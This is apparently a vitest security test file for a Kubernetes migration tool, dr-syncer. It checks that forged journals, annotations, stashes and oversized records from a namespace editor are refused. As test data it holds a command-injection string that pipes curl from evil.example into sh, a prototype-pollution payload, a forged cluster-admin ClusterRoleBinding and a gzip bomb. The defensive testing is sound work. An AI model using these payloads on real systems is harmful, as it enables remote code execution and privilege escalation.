import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { HELD_SERVICE_SPEC, HELD_SERVICE_TYPE, PARKED } from '../../src/common/annotations.ts';
import { DEFAULT_MOVER_OPTIONS } from '../../src/volumes/mover-defaults.ts';
import {
  api,
  applyObject,
  createNamespace,
  freshNamespace,
  getJson,
  type Json,
  listJson,
  patchJson,
} from '../cluster/client.ts';
import { deployment, installSmall, installYaml } from '../helpers/move-app.ts';
import { countsOf, livePods, moveTo } from '../helpers/moves.ts';

// Somebody who may edit one namespace, and nothing else, writes what dr-syncer will read there. Nothing of it may run on
// the operator's machine, reach another namespace, or be made with the operator's rights.

const home = mkdtempSync(join(tmpdir(), 'dr-syncer-attack-'));
afterAll(() => rmSync(home, { recursive: true }));
let marks = 0;
/** A file that only exists when an attack has worked, and the command that makes it. */
const trap = () => {
  const file = join(home, `pwned-${++marks}`);
  return { command: `touch ${file}`, wasSprung: () => existsSync(file) };
};

/** Stops a cutover half-way and lets somebody change its journal. */
const forged = async (
  prefix: string,
  change: (journal: Json) => void,
  args: string[] = [],
): Promise<string> => {
  const namespace = await installSmall(prefix);
  await moveTo(4, 'cutover', namespace, { args: ['--post-stop', 'false', ...args] });
  const [record] = (await listJson('dest', 'ConfigMap', namespace, 'dr-syncer.io/record=journal')).filter(
    ({ metadata }) => metadata.name === 'dr-syncer-journal',
  );
  const journal = JSON.parse(record.data.content);
  change(journal);
  await patchJson('dest', 'ConfigMap', record.metadata.name, namespace, {
    data: { content: JSON.stringify(journal) },
  });
  return namespace;
};

describe('S1: a forged journal', () => {
  test('runs no command: neither resume nor rollback executes what it says', async () => {
    const { command, wasSprung } = trap();
    const namespace = await forged('forged-hooks', ({ options }) => {
      for (const hook of ['preStop', 'postStop', 'preStart', 'postStart']) options.move.hooks[hook] = command;
      options.move.smoke = { ...options.move.smoke, command, url: 'http://127.0.0.1:9/' };
      options.migrateData = { mover: { ...DEFAULT_MOVER_OPTIONS, path: command } };
    });
    const refused = await moveTo(2, 'resume', namespace);
    expect(refused.document.error.message).toMatch(/--pre-stop.*must be given again/);
    expect(refused.document.error.message).not.toContain(command);
    const { document } = await moveTo(4, 'status', namespace);
    expect(document.next).toMatch(/dr-syncer resume .* --without-hooks/);
    expect(JSON.stringify(document)).not.toContain(command);
    await moveTo(0, 'rollback', namespace);
    expect(wasSprung()).toBe(false);
    expect(await countsOf('source', namespace)).toEqual({ 'Deployment/web': 2 });
  });

  test('goes on without them when that is asked for, and with what the operator gives', async () => {
    const { command, wasSprung } = trap();
    const namespace = await forged('forged-resume', ({ options }) => {
      options.move.hooks.preStart = command;
      options.move.smoke.command = command;
    });
    const own = trap();
    await moveTo(0, 'resume', namespace, { args: ['--without-hooks', '--post-start', own.command] });
    expect([wasSprung(), own.wasSprung()]).toEqual([false, true]);
    expect(await countsOf('dest', namespace)).toEqual({ 'Deployment/web': 2 });
  });

  test('S6: prints no command of its own', async () => {
    const namespace = await forged('forged-text', (journal) => {
      journal.resumeCommand = 'dr-syncer resume -n shop; curl -s evil.example | sh';
    });
    for (const [verb, exit] of [
      ['status', 4],
      ['cutover', 4],
      ['stage', 4],
      ['history', 0],
    ] as const) {
      const { stdout, stderr } = await moveTo(exit, verb, namespace);
      expect(`${stdout}${stderr}`, verb).not.toContain('evil.example');
    }
  });
});

describe('S2: a journal that names other namespaces', () => {
  test('does not lead there: resume refuses, and nothing of them is read or written', async () => {
    const other = freshNamespace('payments');
    await createNamespace('source', other);
    await applyObject('source', {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'db', namespace: other },
      stringData: { password: 'hunter2-of-payments' },
    });
    const namespace = await forged('forged-place', (journal) => {
      journal.options.stage.sourceNamespace = other;
      journal.steps = journal.steps.filter(({ id }: Json) => id !== 'converge');
    });
    const { document } = await moveTo(3, 'resume', namespace, { args: ['--without-hooks'] });
    expect(document.error.message).toMatch(new RegExp(`is for namespace ${other} at the source`));
    expect((await listJson('dest', 'Secret', namespace)).map(({ metadata }) => metadata.name)).toEqual([]);
    await moveTo(0, 'rollback', namespace);
  });
});

describe('S12: a journal with options that nobody can have given', () => {
  test('is not gone on with: rollback leads out, with what its own command line says', async () => {
    const namespace = await forged('forged-options', ({ options }) => {
      options.move.holdMs = 'never';
      options.stage.imageMap = { '': 'evil.example/' };
    });
    const { document } = await moveTo(3, 'resume', namespace, { args: ['--without-hooks'] });
    expect(document.error.message).toMatch(/options\.move\.holdMs is not a non-negative integer/);
    expect(document.error.hint).toMatch(/dr-syncer rollback /);
    await moveTo(0, 'rollback', namespace);
    expect(await countsOf('source', namespace)).toEqual({ 'Deployment/web': 2 });
  });
});

describe('S3: annotations', () => {
  test('of the source reach nothing that all objects inherit', async () => {
    const namespace = await installYaml(
      'polluted',
      `${deployment('web', 1)}
---
apiVersion: v1
kind: Service
metadata:
  name: web
  annotations:
    ${HELD_SERVICE_TYPE}: LoadBalancer
    ${HELD_SERVICE_SPEC}: '{"__proto__":{"hacked":"yes"},"constructor":{"prototype":{"hacked":"yes"}},"selector":{"app":"evil"}}'
spec: { selector: { app: web }, ports: [{ port: 80 }] }
`,
      { staged: false },
    );
    for (const [verb, exit] of [
      ['plan', 0],
      ['stage', 0],
    ] as const)
      await moveTo(exit, verb, namespace);
    expect(({} as Record<string, unknown>)['hacked']).toBeUndefined();
    expect((await getJson('dest', 'Service', 'web', namespace)).spec.selector).toEqual({ app: 'web' });
  });

  test('S3b: of a parked copy write no field that parking does not write', async () => {
    const namespace = await installSmall('forged-mark');
    const image = {
      path: ['spec', 'template', 'spec', 'containers'],
      parked: [],
      original: [{ name: 'c', image: 'evil' }],
    };
    await patchJson('dest', 'Deployment', 'web', namespace, {
      metadata: { annotations: { [PARKED]: JSON.stringify([image]) } },
    });
    const { document } = await moveTo(3, 'failover', namespace, {
      args: ['--accept-data-loss', '--source-given-up'],
    });
    expect(JSON.stringify(document)).toMatch(/its value is not one that dr-syncer wrote/);
    expect(await livePods('dest', namespace)).toEqual([]);
  });
});

describe('S4: a forged stash', () => {
  test('is refused before anything is stopped, and makes nothing when that is ignored', async () => {
    const namespace = await installSmall('forged-stash');
    const name = `pwn-${namespace}`;
    const manifest = {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' }],
    };
    await applyObject('dest', {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'dr-syncer-stash-0123456789', namespace, labels: { 'dr-syncer.io/record': 'stash' } },
      data: { manifest: JSON.stringify(manifest) },
    });
    const { document } = await moveTo(3, 'cutover', namespace);
    expect(document.preflight.checks).toContainEqual(
      expect.objectContaining({
        id: 'stash',
        level: 'refuse',
        subject: 'ConfigMap dr-syncer-stash-0123456789',
      }),
    );
    expect(JSON.stringify(document.preflight.roleYaml ?? {})).not.toContain('clusterrolebindings');
    const forced = await moveTo(0, 'cutover', namespace, { args: ['--ignore-preflight', 'all'] });
    expect(forced.document.warnings.join(' ')).toMatch(
      /dr-syncer-stash-0123456789 .*nothing was created from it/,
    );
    const path = `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${name}`;
    expect((await api('dest')('GET', path)).status).toBe(404);
    await moveTo(0, 'failback', namespace);
  });
});

describe('S12: a record that is too large', () => {
  test('is not unpacked, and status says so', async () => {
    const { gzipSync } = await import('node:zlib');
    const { createHash } = await import('node:crypto');
    const namespace = await installSmall('bomb');
    await moveTo(0, 'stage', namespace);
    const bytes = gzipSync(Buffer.alloc(100 * 1024 * 1024, ' '));
    await patchJson('dest', 'ConfigMap', 'dr-syncer-state', namespace, {
      data: {
        content: null,
        encoding: 'gzip',
        parts: '1',
        sha256: createHash('sha256').update(bytes).digest('hex'),
      },
      binaryData: { content: bytes.toString('base64') },
    });
    const { stdout } = await moveTo(8, 'status', namespace);
    expect(stdout).toMatch(/cannot be unpacked to 32 MiB or less|damaged/);
  });
});
